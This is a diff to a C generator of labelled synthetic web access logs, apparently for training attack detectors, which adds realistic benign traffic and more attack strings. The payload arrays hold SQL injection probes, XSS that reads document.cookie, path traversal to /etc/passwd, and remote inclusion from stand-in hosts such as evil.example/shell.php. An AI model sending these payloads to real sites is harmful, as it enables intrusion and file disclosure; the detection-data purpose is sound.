@@ -1,6 +1,9 @@
 /* Synthetic web access logs (combined format) with ground truth: browsing
- * visitors who load a page and then its assets, crawlers, uptime monitors
- * using curl-like tools, normal 404s and the odd 500, a daily rhythm; plus
+ * visitors who load a page and then its assets (a third of the pages heavy:
+ * dozens of assets within a second or two), the page's script calling one
+ * API path with many values, fast skimmers, crawlers, uptime monitors using
+ * curl-like tools and load-balancer health checks every few seconds, normal
+ * 404s and the odd 500, a daily rhythm; plus
  * labelled attacks: path scanners (a quarter against a soft-404 site that
  * answers every path 200 or redirects it: kind scanner_soft404), SQL injection, XSS, path
  * traversal, command and template injection, CRLF and JNDI probes, crawling
@@ -50,7 +53,7 @@ static const char *const crawlers[] = {
     "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
 };
 static const char *const monitors[] = { "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
-                                        "UptimeRobot/2.0" };
+                                        "UptimeRobot/2.0", "kube-probe/1.29", "ELB-HealthChecker/2.0" };
 static const char *const scanners[] = {
     "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "gobuster/3.6", "DirBuster-1.0-RC1",
     "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
@@ -96,6 +99,9 @@ static const char *const sqli[] = {
     "1 AND extractvalue(1,concat(0x7e,version()))", "1') OR ('a'='a", "1 OR pg_sleep(5)--",
     "1 AND 4821=4821", "1) AND 7530=7530 AND (8123=8123", "1 AND 1=BENCHMARK(5000000,MD5(0x41))",
     "1/**/UnIoN/**/SeLeCt/**/1,2,3", "1;SELECT PG_SLEEP(5)--", "1' || 'a'='a",
+    /* Error probes: a lone quote or bracket to make the database complain
+     * (scanners start with these, and they carry no SQL word at all). */
+    "'", "1'\"", "x')", "\"(", "1`", "'\")(", "%27%22", "1\\'",
 };
 static const char *const xss[] = {
     "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
@@ -109,6 +115,10 @@ static const char *const traversal[] = {
     "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
     "../../../../proc/self/environ", "/etc/passwd%00.png", "..%5c..%5c..%5cboot.ini",
     "file:///etc/hosts",
+    /* Absolute paths and remote inclusion: a file or URL in place of the
+     * value, no "../" needed; NTFS's ::$DATA to read a script's source. */
+    "/etc/passwd", "/etc/group", "c:\\windows\\system.ini", "/proc/version", "http://evil.example/inc.txt?",
+    "https://x.evil.example/shell.php", "index.php::$DATA", "php://filter/convert.base64-encode/resource=index",
 };
 /* Command injection, template injection, CRLF (header splitting) and JNDI
  * lookups, as tools send them ('%' passes the encoder: some arrive encoded). */
@@ -157,6 +167,8 @@ static const char *const login_paths[] = { "/login", "/wp-login.php", "/admin/lo
 typedef struct session {
     double next;          /* time of the session's next request */
     int kind, remaining, assets, client;
+    int xhr;              /* browse: the assets left are the page script's calls to one API path */
+    double spacing;       /* browse: mean seconds between the page's asset requests */
     char ip[48];
     const char *ua;
     char page[160];       /* the page being viewed: the referer of its assets */
@@ -364,6 +376,22 @@ static int step(gen *g, session *s)
     int st;
     switch (s->kind) {
     case K_BROWSE:
+        if (s->assets > 0 && s->xhr) {
+            /* The page's script: infinite scroll, reviews, suggestions as
+             * one types (one parameter of one path taking many values, as
+             * a fuzzer's would, but plain ones), each call right after the
+             * last. */
+            unsigned id = vg_rng_below(&g->rng, 9000);
+            if (s->xhr == 1) snprintf(uri, sizeof uri, "/api/items?id=%u&fields=name,price", id);
+            else if (s->xhr == 2) snprintf(uri, sizeof uri, "/api/reviews?product=%u&page=%d", id, s->assets);
+            else snprintf(uri, sizeof uri, "/search/suggest?q=%.*s", 1 + (int)vg_rng_below(&g->rng, 8), PICK(g, words));
+            snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
+            emit(g, s, "GET", uri, 200, 80 + vg_rng_below(&g->rng, 3000), ref);
+            if (--s->assets == 0) s->xhr = 0;
+            s->next += uni(g, 0.05, 0.8);
+            if (s->assets == 0) s->next += expo(g, s->pace);
+            return 1;
+        }
         if (s->assets > 0) {
             static const char *const assets[] = { "/static/css/main.4f2a.css", "/static/js/app.91c3.js",
                                                   "/static/js/vendor.77de.js", "/images/logo.svg",
@@ -376,7 +404,7 @@ static int step(gen *g, session *s)
             st = missing ? 404 : chance(g, 0.3) ? 304 : 200;
             emit(g, s, "GET", uri, st, st == 200 ? 2000 + vg_rng_below(&g->rng, 80000) : st == 404 ? 153 : 0, ref);
             s->assets--;
-            s->next += uni(g, 0.02, 0.6);
+            s->next += expo(g, s->spacing);
             if (s->assets == 0) s->next += expo(g, s->pace);  /* reading the page */
             return 1;
         }
@@ -413,8 +441,19 @@ static int step(gen *g, session *s)
          * 300 B .. 80 KB): the size is no sign either way. */
         const char *from = s->target++ ? ref : chance(g, 0.5) ? "https://www.google.com/" : NULL;
         emit(g, s, "GET", s->page, st, st == 200 ? (unsigned)(300.0 * exp(uni(g, 0, log(80000.0 / 300.0)))) : 512, from);
-        /* A skimmer's browser has the assets cached, mostly. */
-        s->assets = st == 200 && (s->pace > 5 || chance(g, 0.3)) ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
+        /* A skimmer's browser has the assets cached, mostly. A third of the
+         * pages are heavy: dozens of scripts, styles, fonts and images
+         * fetched over parallel connections within a second or two, so
+         * one person makes tens of requests in ten seconds (a synthetic
+         * world of light pages taught a model that this rate meant a tool,
+         * and it flagged a real shop's visitors). */
+        s->assets = 0;
+        if (st == 200 && (s->pace > 5 || chance(g, 0.3))) {
+            int heavy = chance(g, 0.35);
+            s->assets = heavy ? 8 + (int)vg_rng_below(&g->rng, 40) : 1 + (int)vg_rng_below(&g->rng, 6);
+            s->spacing = heavy ? 0.04 : 0.25;
+        }
+        if (st == 200 && chance(g, 0.12)) s->xhr = 1 + (int)vg_rng_below(&g->rng, 3), s->assets = 3 + (int)vg_rng_below(&g->rng, 25);
         s->next += uni(g, 0.05, 0.3);
         if (s->assets == 0) s->next += expo(g, s->pace);  /* think time; else it follows the assets */
         return 1;
@@ -432,7 +471,7 @@ static int step(gen *g, session *s)
     case K_MONITOR:
         if (s->remaining-- <= 0) return 0;
         emit(g, s, "GET", s->target ? "/api/status" : "/health", 200, 42, NULL);
-        s->next += uni(g, 29, 31);
+        s->next += s->pace * uni(g, 0.97, 1.03);
         return 1;
     case K_SCANNER:
         if (s->remaining-- <= 0) return 0;
@@ -592,9 +631,11 @@ static void start_session(gen *g, double t)
             s.pace = 25;  /* mean seconds reading a page */
             if (chance(g, 0.15)) {
                 /* Skimmers: clicking through listings, back and forward,
-                 * opening tabs, a page every second or two for a while, as
-                 * fast as some tools (the real shop's visitors did). */
-                s.pace = uni(g, 1, 4);
+                 * opening links in tabs, the browser prefetching the next
+                 * page: a page every fraction of a second to a few seconds
+                 * for a while, as fast as some tools (the real shop's
+                 * visitors did). */
+                s.pace = uni(g, 0.3, 4);
                 s.remaining = 3 + (int)vg_rng_below(&g->rng, 25);
             }
             snprintf(s.page, sizeof s.page, "/");
@@ -607,6 +648,10 @@ static void start_session(gen *g, double t)
             s.ua = PICK(g, monitors);
             s.target = chance(g, 0.5);
             s.remaining = 10 + (int)vg_rng_below(&g->rng, 30);
+            /* Half are a load balancer's or an orchestrator's health checks:
+             * the same path every second or few, all day. */
+            s.pace = chance(g, 0.5) ? uni(g, 1, 10) : 30;
+            if (s.pace < 30) s.remaining *= 5;
         }
     }
     if (g->n < MAX_ACTIVE - 1) heap_push(g, &s);
